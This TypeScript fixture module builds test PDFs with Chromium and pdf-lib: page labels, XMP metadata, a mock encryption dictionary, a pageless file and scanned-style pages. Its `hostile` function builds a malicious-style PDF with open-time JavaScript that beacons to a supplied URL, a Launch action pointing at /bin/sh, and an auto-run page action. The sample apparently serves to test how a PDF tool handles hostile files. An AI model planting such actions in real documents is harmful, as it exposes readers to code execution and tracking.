import { chromium } from '@playwright/test'
import { existsSync } from 'node:fs'
import { PDFDict, PDFDocument, PDFName, PDFNumber, PDFString, PDFHexString, PDFArray } from 'pdf-lib'

/**
 * Real PDFs for the tests, printed by Chromium from HTML written here (as a user's browser prints a
 * page), then given what Chromium does not write (page labels, XMP, an /Encrypt dictionary, actions)
 * with pdf-lib. Each page of HTML is one printed page: every <section> breaks the page after it.
 */
export async function printPdfs(documents: Record<string, string>): Promise<Record<string, Uint8Array>> {
  const browser = await chromium.launch({
    executablePath: existsSync('/usr/bin/chromium') ? '/usr/bin/chromium' : undefined,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  })
  try {
    const printed: Record<string, Uint8Array> = {}
    for (const [name, body] of Object.entries(documents)) {
      const page = await browser.newPage()
      await page.setContent(`<!doctype html><html lang="en"><head><meta charset="utf-8"><style>
        body { font: 11pt/1.4 serif; margin: 0 } h1 { font-size: 26pt } section { break-after: page }</style></head><body>${body}</body></html>`)
      printed[name] = await page.pdf({ format: 'A5', margin: { top: '2cm', bottom: '2cm', left: '2cm', right: '2cm' } })
      await page.close()
    }
    return printed
  } finally {
    await browser.close()
  }
}

/** /PageLabels as PDF 32000 §12.4.2 has them: ranges from a page index, in a style, from a start number. */
export async function withPageLabels(pdf: Uint8Array, ranges: { from: number; style: 'r' | 'R' | 'D' | 'a'; start?: number; prefix?: string }[]): Promise<Uint8Array> {
  const document = await PDFDocument.load(pdf)
  const nums = PDFArray.withContext(document.context)
  for (const range of ranges) {
    nums.push(PDFNumber.of(range.from))
    const label = document.context.obj({ S: PDFName.of(range.style) }) as PDFDict
    if (range.start !== undefined) label.set(PDFName.of('St'), PDFNumber.of(range.start))
    if (range.prefix) label.set(PDFName.of('P'), PDFString.of(range.prefix))
    nums.push(label)
  }
  document.catalog.set(PDFName.of('PageLabels'), document.context.obj({ Nums: nums }))
  return document.save({ useObjectStreams: false })
}

/** The Info dictionary's title and author, and optionally an XMP packet in the catalog's /Metadata. */
export async function withMetadata(pdf: Uint8Array, { title, author, xmp }: { title?: string; author?: string; xmp?: string }): Promise<Uint8Array> {
  const document = await PDFDocument.load(pdf, { updateMetadata: false })
  if (title !== undefined) document.setTitle(title)
  if (author !== undefined) document.setAuthor(author)
  if (xmp) {
    const stream = document.context.stream(new TextEncoder().encode(xmp), { Type: 'Metadata', Subtype: 'XML' })
    document.catalog.set(PDFName.of('Metadata'), document.context.register(stream))
  }
  return document.save({ useObjectStreams: false })
}

/** An XMP packet as Crossref-era publishers write one. */
export function xmpPacket(fields: { title: string; creators: string[]; doi?: string; publication?: string; date?: string }): string {
  return `<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:prism="http://prismstandard.org/namespaces/basic/2.0/">
<dc:title><rdf:Alt><rdf:li xml:lang="x-default">${fields.title}</rdf:li></rdf:Alt></dc:title>
<dc:creator><rdf:Seq>${fields.creators.map((name) => `<rdf:li>${name}</rdf:li>`).join('')}</rdf:Seq></dc:creator>
${fields.doi ? `<prism:doi>${fields.doi}</prism:doi>` : ''}${fields.publication ? `<prism:publicationName>${fields.publication}</prism:publicationName>` : ''}${fields.date ? `<prism:coverDate>${fields.date}</prism:coverDate>` : ''}
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>`
}

/**
 * An /Encrypt dictionary of the standard security handler (RC4, 128 bits) whose user password is not
 * empty: a reader needs the password to open it, as a publisher's protected PDF does.
 */
export async function encrypted(pdf: Uint8Array): Promise<Uint8Array> {
  const document = await PDFDocument.load(pdf)
  const bytes = (seed: number) => PDFHexString.of(Array.from({ length: 32 }, (_, i) => ((seed * 31 + i * 17) & 0xff).toString(16).padStart(2, '0')).join(''))
  const encrypt = document.context.register(document.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -3904, O: bytes(7), U: bytes(11) }))
  document.context.trailerInfo.Encrypt = encrypt
  document.context.trailerInfo.ID = document.context.obj([PDFHexString.of('00112233445566778899aabbccddeeff'), PDFHexString.of('00112233445566778899aabbccddeeff')])
  return document.save({ useObjectStreams: false })
}

/** A PDF that asks to run JavaScript when opened, to launch a program, and links to a server. */
export async function hostile(pdf: Uint8Array, beaconUrl: string): Promise<Uint8Array> {
  const document = await PDFDocument.load(pdf)
  const context = document.context
  const script = context.obj({ S: 'JavaScript', JS: PDFString.of(`app.launchURL("${beaconUrl}/js", true); this.submitForm("${beaconUrl}/form");`) })
  document.catalog.set(PDFName.of('OpenAction'), context.register(script))
  document.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFString.of('run'), context.register(script)] }) }))
  const page = document.getPage(0)
  const launch = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 200, 200], A: context.obj({ S: 'Launch', F: PDFString.of('/bin/sh'), NewWindow: true }) })
  const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 200, 200, 400], A: context.obj({ S: 'URI', URI: PDFString.of(`${beaconUrl}/uri`) }) })
  page.node.set(PDFName.of('Annots'), context.obj([context.register(launch), context.register(link)]))
  page.node.set(PDFName.of('AA'), context.obj({ O: context.register(script) }))
  return document.save({ useObjectStreams: false })
}

/** A PDF whose page tree holds no page (written by hand: pdf-lib adds a blank page to an empty document). */
export function withoutPages(): Uint8Array {
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']
  let body = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const xref = body.length
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return new TextEncoder().encode(body)
}

/** Pages that are only pictures, as a scanner gives them: canvases, which Chromium prints as images. */
export const IMAGE_ONLY_HTML = [1, 2]
  .map((page) => `<section><canvas id="scan${page}" width="600" height="800"></canvas><script>
    const context = document.getElementById('scan${page}').getContext('2d')
    context.fillStyle = '#f4f1e8'; context.fillRect(0, 0, 600, 800)
    context.fillStyle = '#333'; for (let line = 0; line < 30; line++) context.fillRect(40, 60 + line * 24, 420 + (line * 37) % 100, 9)
  </script></section>`)
  .join('')
